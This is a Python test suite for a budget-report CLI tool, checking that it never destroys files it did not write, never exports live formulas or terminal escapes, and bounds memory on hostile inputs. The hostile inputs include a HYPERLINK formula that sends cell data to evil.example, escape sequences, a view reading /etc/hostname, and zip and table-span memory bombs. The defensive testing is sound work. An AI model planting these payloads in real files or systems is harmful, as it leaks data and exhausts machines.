"""Nothing juesuan writes destroys what it did not make; exports carry no live formulas; text
from reports never drives the terminal; one file's parse is bounded in memory.

Each case here is an attack or an accident that destroyed or leaked data before these rules
(issue "Data safety"): every one of them failed on the code before it.
"""

from __future__ import annotations

import errno
import io
import os
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
from pathlib import Path

import duckdb
import pytest

from juesuan import writers
from juesuan.cli.main import EXIT_NOTHING, EXIT_OK, EXIT_PARTIAL, main
from juesuan.load.batch import load_lock, load_paths
from juesuan.cli.outputs import MARKER

from tests.conftest import ROOT, SAMPLE, Workspace
from tests.test_security import snapshot

SHIQUAN = ROOT / "samples" / "text" / "putuo_shiquan_2025.txt"
WENLV = ROOT / "samples" / "text" / "putuo_wenlv_2025.txt"
CZJ = ROOT / "samples" / "pdf" / "putuo_czj_2024.pdf"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ESCAPES = "\x1b]0;pwned\x07\x1b[2J"


def cli(capsys, *args) -> tuple[int, str, str]:
    code = main([str(a) for a in args])
    out = capsys.readouterr()
    return code, out.out, out.err


def one_refusal(err: str, *words: str) -> str:
    lines = [line for line in err.splitlines() if line.strip()]
    assert len(lines) == 1 and "Traceback" not in err, err
    assert all(w in lines[0] for w in words), (lines[0], words)
    return lines[0]


def dead_pid() -> int:
    """The id of a process that has ended (for the leftovers of a killed writer)."""
    proc = subprocess.Popen([sys.executable, "-c", "pass"])
    proc.wait()
    return proc.pid


@pytest.fixture()
def documents(tmp_path) -> Path:
    """A folder of a user's own files, as `--out` might be pointed at by mistake."""
    folder = tmp_path / "documents"
    (folder / "sub").mkdir(parents=True)
    (folder / "thesis.docx").write_bytes(b"PK\x03\x04 my thesis")
    (folder / "notes.txt").write_text("mine", encoding="utf-8")
    (folder / "sub" / "data.csv").write_text("a,b\n1,2\n", encoding="utf-8")
    return folder


# ---- report --out: a site folder is ours alone ------------------------------------------------

def test_report_never_empties_a_folder_it_did_not_write(built, documents, tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("JUESUAN_DB", str(built.db))
    checkout = tmp_path / "checkout"  # `--out .` in a checkout emptied it to the site's 7 files
    (checkout / ".git").mkdir(parents=True)
    (checkout / "README.md").write_text("x", encoding="utf-8")
    link = tmp_path / "link-to-documents"
    link.symlink_to(documents)
    before = snapshot(documents, checkout, built.db.parent, content=True)
    for target, words in [(documents, "did not write"), (checkout, "did not write"),
                          (built.db.parent, "warehouse's folder"), (built.db.parent / "pages", "inside the warehouse's folder"),
                          (link, "symbolic link"), (documents / "notes.txt", "is a file")]:
        code, out, err = cli(capsys, "report", "--out", target)
        assert code == EXIT_NOTHING and out == ""
        one_refusal(err, "refused:", str(target), words)
    monkeypatch.chdir(checkout)
    code, _, err = cli(capsys, "report", "--out", ".")
    assert code == EXIT_NOTHING and "did not write" in err
    assert snapshot(documents, checkout, built.db.parent, content=True) == before


def test_report_replaces_its_own_site_and_nothing_else(built, tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("JUESUAN_DB", str(built.db))
    site = tmp_path / "site"
    assert cli(capsys, "report", "--out", site)[0] == EXIT_OK
    assert (site / MARKER).is_file() and (site / "index.html").is_file()
    assert cli(capsys, "report", "--out", site)[0] == EXIT_OK  # its own: replaced whole
    (site / "my-notes.txt").write_text("added by the user", encoding="utf-8")
    code, _, err = cli(capsys, "report", "--out", site)
    assert code == EXIT_NOTHING
    one_refusal(err, "'my-notes.txt'", "did not write")
    assert (site / "my-notes.txt").read_text(encoding="utf-8") == "added by the user"
    empty = tmp_path / "empty"
    empty.mkdir()
    assert cli(capsys, "report", "--out", empty)[0] == EXIT_OK


def test_a_killed_writers_work_folders_go_and_nothing_else(built, tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("JUESUAN_DB", str(built.db))
    pid = dead_pid()
    killed = tmp_path / f".juesuan-work-{pid}-0123abcd"  # what a killed `report` left (33 MB each before)
    killed.mkdir()
    (killed / MARKER).write_text('{"kind": "site", "files": []}', encoding="utf-8")
    (killed / "index.html").write_text("half", encoding="utf-8")
    lookalike = tmp_path / f".juesuan-work-{pid}-4567cdef"  # the same name, but not marked ours
    lookalike.mkdir()
    (lookalike / "keep.txt").write_text("not ours", encoding="utf-8")
    assert cli(capsys, "report", "--out", tmp_path / "site")[0] == EXIT_OK
    assert not killed.exists() and (lookalike / "keep.txt").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([lookalike.name, "site"])
    # A query's spill folder of a killed process, in the temporary directory.
    spill = Path(tempfile.gettempdir()) / f"juesuan-query-{pid}-abcd_123"
    spill.mkdir(exist_ok=True)
    assert cli(capsys, "query", "select 1", "--db", built.db)[0] == EXIT_OK
    assert not spill.exists()
    assert not list(Path(tempfile.gettempdir()).glob(f"juesuan-query-{os.getpid()}-*"))


# ---- query --out, docs --out, extract-text -o: files ----------------------------------------

def test_single_file_outputs_never_replace_what_they_did_not_make(built, documents, tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("JUESUAN_DB", str(built.db))
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    link = tmp_path / "link.csv"
    link.write_bytes(b"")
    link.unlink()
    link.symlink_to(documents / "sub" / "data.csv")
    before = snapshot(documents, built.db.parent, content=True)
    q = ["query", "select 1 as x", "--format", "csv"]
    for args, words in [
        ([*q, "--out", built.db], "is the warehouse"),  # replaced the warehouse with 7 bytes, exit 0
        ([*q, "--out", built.db, "--force"], "is the warehouse"),
        ([*q, "--out", built.db.parent / "answer.csv"], "inside the warehouse's folder"),
        ([*q, "--out", fifo], "FIFO"),
        ([*q, "--out", "/dev/null"], "device"),
        ([*q, "--out", link], "symbolic link"),
        ([*q, "--out", documents / "sub" / "data.csv"], "exists"),
        ([*q, "--out", documents / "thesis.docx", "--force"], "is not a CSV file"),
        ([*q, "--out", documents / "sub"], "folder"),
        (["query", "select 1", "--format", "parquet", "--out", documents / "notes.txt", "--force"], "not a parquet file"),
        (["docs", "--out", built.db], "is the warehouse"),
        (["docs", "--out", documents / "notes.txt"], "exists"),
        (["extract-text", CZJ, "-o", documents / "notes.txt"], "exists"),
        (["extract-text", CZJ, "-o", CZJ, "--force"], "is not a text file"),
    ]:
        code, out, err = cli(capsys, *args)
        assert code == EXIT_NOTHING and out == "", args
        one_refusal(err, "refused:", words)
    assert snapshot(documents, built.db.parent, content=True) == before
    assert fifo.exists() and not fifo.is_file()
    # Its own kind, with --force: replaced.
    answer = tmp_path / "answer.csv"
    assert cli(capsys, *q, "--out", answer)[0] == EXIT_OK
    assert cli(capsys, "query", "select 2 as x", "--format", "csv", "--out", answer, "--force")[0] == EXIT_OK
    assert answer.read_text(encoding="utf-8-sig") == "x\n2\n"


# ---- exports: a folder of ours, and no formula in a spreadsheet -----------------------------

@pytest.fixture()
def hostile_db(tmp_path) -> Path:
    """A warehouse whose report text starts formulas and carries terminal escapes."""
    db = tmp_path / "hostile" / "juesuan.duckdb"
    db.parent.mkdir()
    con = duckdb.connect(str(db))
    con.execute("create schema marts; create schema audit")
    con.execute("create table marts.dim_report as select ? as department_name, ? as note, "
                "-12.50::decimal(18,2) as amount, '+86 10' as phone, '@sum(1)' as at", [FORMULA, ESCAPES])
    con.execute("create table audit.findings as select '-1+1' as object, 1 as n")
    con.close()
    return db


def test_exports_carry_no_live_formula_and_survive_control_characters(hostile_db, tmp_path, capsys):
    out = tmp_path / "xlsx"
    code, _, err = cli(capsys, "export", "--to", out, "--format", "xlsx", "--db", hostile_db)
    assert code == EXIT_OK, err  # the escapes made openpyxl raise IllegalCharacterError: no file
    from openpyxl import load_workbook

    sheet = load_workbook(out / "marts.dim_report.xlsx").active
    row = [c for c in sheet[2]]
    assert row[0].value == FORMULA and row[0].data_type == "s"  # text, never a formula
    assert row[1].value == "\\u001b]0;pwned\\u0007\\u001b[2J"
    assert row[2].value == -12.5 and row[2].data_type == "n"
    csv_dir = tmp_path / "csv"
    assert cli(capsys, "export", "--to", csv_dir, "--format", "csv", "--db", hostile_db)[0] == EXIT_OK
    text = (csv_dir / "marts.dim_report.csv").read_text(encoding="utf-8-sig")
    assert text.splitlines()[1].startswith("\"'=HYPERLINK(")
    assert ",-12.50,'+86 10,'@sum(1)" in text  # a number stays a number; text that starts a formula is text
    assert (csv_dir / "audit.findings.csv").read_text(encoding="utf-8-sig") == "object,n\n'-1+1,1\n"
    raw = tmp_path / "raw"
    assert cli(capsys, "export", "--to", raw, "--format", "csv", "--raw", "--db", hostile_db)[0] == EXIT_OK
    assert (raw / "marts.dim_report.csv").read_text(encoding="utf-8-sig").splitlines()[1].startswith('"=HYPERLINK(')
    code, out_text, _ = cli(capsys, "query", "select department_name from dim_report", "--format", "csv", "--db", hostile_db)
    assert out_text.splitlines()[1].startswith("\"'=HYPERLINK(")


def test_export_keeps_out_of_other_peoples_folders(built, documents, tmp_path, capsys):
    before = snapshot(documents, built.db.parent, content=True)
    for target, words in [(documents, "did not write"), (built.db.parent, "warehouse's folder"),
                          (ROOT / "seeds", "seeds")]:
        code, _, err = cli(capsys, "export", "--to", target, "--db", built.db)
        assert code == EXIT_NOTHING
        one_refusal(err, "refused:", words)
    assert snapshot(documents, built.db.parent, content=True) == before
    out = tmp_path / "exports"
    assert cli(capsys, "export", "--to", out, "--format", "csv", "--db", built.db)[0] == EXIT_OK
    (out / "mine.txt").write_text("kept", encoding="utf-8")  # an export folder may hold the user's files too
    assert cli(capsys, "export", "--to", out, "--format", "parquet", "--db", built.db)[0] == EXIT_OK
    assert (out / "mine.txt").read_text(encoding="utf-8") == "kept"
    assert {"marts.dim_report.csv", "marts.dim_report.parquet"} <= {p.name for p in out.iterdir()}


# ---- the terminal --------------------------------------------------------------------------

def test_report_text_never_reaches_the_terminal_as_control_characters(hostile_db, tmp_path, capsys, monkeypatch):
    code, out, err = cli(capsys, "query", "select department_name, note from dim_report", "--db", hostile_db)
    assert code == EXIT_OK and "\x1b" not in out + err and "\x07" not in out
    assert "\\u001b]0;pwned\\u0007\\u001b[2J" in out
    code, out, _ = cli(capsys, "query", "select note from dim_report", "--format", "json", "--db", hostile_db)
    assert "\x1b" not in out and __import__("json").loads(out) == [{"note": ESCAPES}]  # still JSON, the same text
    # A report whose department is named with escapes, through `load`.
    report = tmp_path / "escapes.txt"
    report.write_text(SAMPLE.read_text(encoding="utf-8").replace("高平市公安局", "高平市" + ESCAPES + "公安局"), encoding="utf-8")
    Workspace(tmp_path / "ws", monkeypatch)
    code, out, err = cli(capsys, "load", report)
    assert code in (EXIT_OK, EXIT_PARTIAL) and "\x1b" not in out + err and "\x07" not in out + err
    assert "高平市\\u001b]0;pwned" in out


# ---- report: the walled connection, and quotes only from the loaded file ---------------------

def test_report_reads_the_warehouse_through_the_walls(built, tmp_path, capsys):
    db = tmp_path / "foreign.duckdb"
    db.write_bytes(built.db.read_bytes())
    con = duckdb.connect(str(db))
    con.execute("alter table marts.dim_report rename to dim_report_orig")
    con.execute("create view marts.dim_report as select * replace ("
                "(select string_agg(content, '') from read_text('/etc/hostname')) as department_name) "
                "from marts.dim_report_orig")
    con.close()
    code, out, err = cli(capsys, "report", "--db", db, "--out", tmp_path / "site")
    assert code == EXIT_NOTHING and out == ""
    one_refusal(err, "error:", str(db))
    assert not (tmp_path / "site").exists()


def test_report_quotes_lines_only_from_the_file_that_was_loaded(tmp_path, capsys, monkeypatch):
    ws = Workspace(tmp_path / "ws", monkeypatch)
    copy = tmp_path / "report.txt"
    copy.write_bytes(SAMPLE.read_bytes())
    assert cli(capsys, "run", copy)[0] == 3
    quoted = "302 商品和服务支出"  # a finding's printed line, quoted on the page
    site = tmp_path / "site"
    assert cli(capsys, "report", "--out", site)[0] == EXIT_OK
    page = next(site.glob("report-*.html")).read_text(encoding="utf-8")
    assert quoted in page
    secret = tmp_path / "secret.txt"
    secret.write_text("\n".join(f"SECRET LINE {n}" for n in range(2000)), encoding="utf-8")
    copy.unlink()
    copy.symlink_to(secret)  # swapped for a link to another file
    assert cli(capsys, "report", "--out", site)[0] == EXIT_OK
    page = next(site.glob("report-*.html")).read_text(encoding="utf-8")
    assert "SECRET LINE" not in page and ws.db.exists()


# ---- memory: structural limits first, then a limit per worker --------------------------------

def _docx(body: str) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                   '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                   '<Default Extension="xml" ContentType="application/xml"/>'
                   '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
        z.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                   '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>')
        z.writestr("word/document.xml", '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                   f"<w:body>{body}</w:body></w:document>")
    return buf.getvalue()


def _xlsx_with_merge(ref: str) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    book.active["A1"] = "收入支出决算总表"
    buf = io.BytesIO()
    book.save(buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for item in src.infolist():
            data = src.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"</sheetData>", f'</sheetData><mergeCells count="1"><mergeCell ref="{ref}"/></mergeCells>'.encode())
            z.writestr(item, data)
    return out.getvalue()


def _bomb() -> bytes:
    """A Word file one of whose parts unpacks to 300 MB of zeros (~300 KB packed)."""
    buf = io.BytesIO(_docx("<w:p/>"))
    with zipfile.ZipFile(buf, "a", zipfile.ZIP_DEFLATED) as z, z.open("word/media/zeros.bin", "w", force_zip64=True) as part:
        block = bytes(1 << 20)
        for _ in range(300):
            part.write(block)
    return buf.getvalue()


HOSTILE_FILES = {
    # A few KB: one cell spanning a million columns in each of its rows reached 5.7 GB.
    "spans.docx": lambda: _docx("<w:tbl>" + '<w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000"/></w:tcPr><w:p/></w:tc></w:tr>' * 2000 + "</w:tbl>"),
    # 1.6 KB: one merge over the whole sheet reached 4.8 GB in openpyxl.
    "merge.xlsx": lambda: _xlsx_with_merge("A1:XFD1048576"),
    # Huge colspan and rowspan reached 5.5 GB.
    "spans.html": lambda: ("<html><body><table>" + '<tr><td colspan="100000" rowspan="100000">1</td></tr>' * 3000
                           + "</table></body></html>").encode(),
    "bomb.docx": _bomb,
}


def test_files_that_ask_for_gigabytes_are_refused_in_one_line(tmp_path, capsys, monkeypatch):
    folder = tmp_path / "in"
    folder.mkdir()
    for name, make in HOSTILE_FILES.items():
        (folder / name).write_bytes(make())
    assert (folder / "spans.docx").stat().st_size < 10_000 and (folder / "merge.xlsx").stat().st_size < 10_000
    Workspace(tmp_path / "ws", monkeypatch)
    started = time.monotonic()
    outcome = load_paths([folder], tmp_path / "ws" / "parsed", workers=2, file_memory="2GB")
    assert time.monotonic() - started < 60
    reasons = {Path(e.source).name: e.reason for e in outcome.failed}
    assert set(reasons) == set(HOSTILE_FILES) and not outcome.loaded, reasons
    assert "spans" in reasons["spans.docx"] and "1,000,000" in reasons["spans.docx"]
    assert "merged cells" in reasons["merge.xlsx"]
    assert "table 1 spans" in reasons["spans.html"]
    assert "unpack to 314,57" in reasons["bomb.docx"] and "zip bomb" in reasons["bomb.docx"]


def test_a_file_past_its_memory_limit_is_refused_and_the_batch_goes_on(tmp_path, capsys, monkeypatch):
    Workspace(tmp_path / "ws", monkeypatch)
    # 120 MB of text (the sample, 700 times over) cannot even be read within 10 MB; the sample alone can.
    import resource

    big = tmp_path / "big.txt"
    big.write_bytes(SAMPLE.read_bytes() * 700)  # 120 MB
    code, out, err = cli(capsys, "load", big, SAMPLE, "--file-memory", "10MB")
    assert code == EXIT_PARTIAL
    assert "loaded 000_76716e9dec051514.txt" in out and "Traceback" not in err
    assert f"error: {big}: reading it needed more memory than one file may take" in err
    code, _, err = cli(capsys, "load", SAMPLE, "--file-memory", "lots")
    assert code == EXIT_NOTHING and err.strip() == "error: --file-memory 'lots' is not a size (e.g. 4GB, 512MB; 0 for none)"
    assert resource.getrlimit(resource.RLIMIT_AS)[0] == resource.RLIM_INFINITY  # only the workers were limited


def test_a_query_result_counts_against_the_memory_limit(built, tmp_path, capsys):
    # 1.2 GB of strings: the Arrow result sat outside DuckDB's limit (2.5 GB RSS at --memory-limit 500MB).
    sql = "select repeat('x', 1000000) as s from range(1200)"
    code, out, err = cli(capsys, "query", sql, "--format", "parquet", "--out", tmp_path / "big.parquet",
                         "--memory-limit", "500MB", "--db", built.db)
    assert code == EXIT_NOTHING and out == ""
    assert err.strip() == ("stopped: the query needs more than its memory limit of 500MB and temporary disk of 10GB "
                           "(raise them with --memory-limit and --temp-limit, e.g. 8GB)")
    assert not (tmp_path / "big.parquet").exists() and not list(tmp_path.iterdir())


# ---- files holding more than one report ------------------------------------------------------

def test_a_file_of_two_departments_in_shanghais_layout_is_refused(tmp_path, capsys, monkeypatch):
    both = tmp_path / "two.txt"
    both.write_text(SHIQUAN.read_text(encoding="utf-8") + "\n" + WENLV.read_text(encoding="utf-8"), encoding="utf-8")
    Workspace(tmp_path / "ws", monkeypatch)
    code, out, err = cli(capsys, "load", both)
    assert code == EXIT_NOTHING
    line = [x for x in err.splitlines() if x.startswith("error: ") and "two.txt" in x]
    assert len(line) == 1 and "holds the reports of more than one department" in line[0], err
    assert "上海市普陀区人民政府石泉路街道办事处" in line[0] and "上海市普陀区文化和旅游局" in line[0]


def test_a_second_copy_with_other_figures_makes_the_table_incomplete(tmp_path):
    from juesuan.parse.report import parse_file

    text = SHIQUAN.read_text(encoding="utf-8")
    second = text.replace("1,066.51", "9,999.99")
    assert second != text
    both = tmp_path / "twice.txt"
    both.write_text(text + "\n" + second, encoding="utf-8")
    once = parse_file(SHIQUAN)
    twice = parse_file(both)
    repeated = [i for i in twice.issues if i.kind == "repeated" and "printed again" in i.message]
    assert {i.table_key for i in repeated} == set(once.tables), repeated  # every table, named
    assert all(i.severity == "error" for i in repeated)
    # The first copy is read as the file alone reads, its figures unchanged by the second.
    for key, table in once.tables.items():
        assert [(c.row_key, c.column_key, c.value) for c in twice.tables[key].cells] == \
               [(c.row_key, c.column_key, c.value) for c in table.cells], key


# ---- concurrent loads, full disks, read-only folders -----------------------------------------

def test_two_loads_of_one_folder_take_turns(tmp_path, monkeypatch):
    parsed = tmp_path / "parsed"
    done = threading.Event()
    outcome = {}

    def load():
        outcome["result"] = load_paths([SAMPLE], parsed, workers=1)
        done.set()

    with load_lock(parsed):  # another load is running
        thread = threading.Thread(target=load)
        thread.start()
        assert not done.wait(2)  # it waits instead of clearing the other's work folders
    thread.join(60)
    assert done.is_set() and len(outcome["result"].loaded) == 1


@pytest.mark.parametrize("error", [errno.ENOSPC, errno.EROFS])
def test_a_full_disk_or_read_only_folder_ends_in_one_line(built, tmp_path, capsys, monkeypatch, error):
    monkeypatch.setenv("JUESUAN_DB", str(built.db))
    real_write_text, real_mkdir = Path.write_text, Path.mkdir

    def failing(*args, **kwargs):
        raise OSError(error, os.strerror(error), str(tmp_path / "out" / "somefile"))

    monkeypatch.setattr(Path, "write_text", failing)
    monkeypatch.setattr(writers, "atomic_file", lambda path: (_ for _ in ()).throw(OSError(error, os.strerror(error), str(path))))
    for args in (["report", "--out", tmp_path / "out"], ["export", "--to", tmp_path / "exp", "--format", "csv"],
                 ["extract-text", CZJ, "-o", tmp_path / "page.txt"],
                 ["query", "select 1", "--format", "csv", "--out", tmp_path / "q.csv"]):
        code, out, err = cli(capsys, *args)
        assert code == EXIT_NOTHING, args
        one_refusal(err, "error:", os.strerror(error))
    monkeypatch.setattr(Path, "write_text", real_write_text)

    def no_dirs(self, *args, **kwargs):
        raise OSError(error, os.strerror(error), str(self))

    monkeypatch.setattr(Path, "mkdir", no_dirs)
    Workspace(tmp_path / "ws", monkeypatch)
    code, out, err = cli(capsys, "load", SAMPLE)
    assert code == EXIT_NOTHING and "Traceback" not in err and os.strerror(error) in err
    monkeypatch.setattr(Path, "mkdir", real_mkdir)
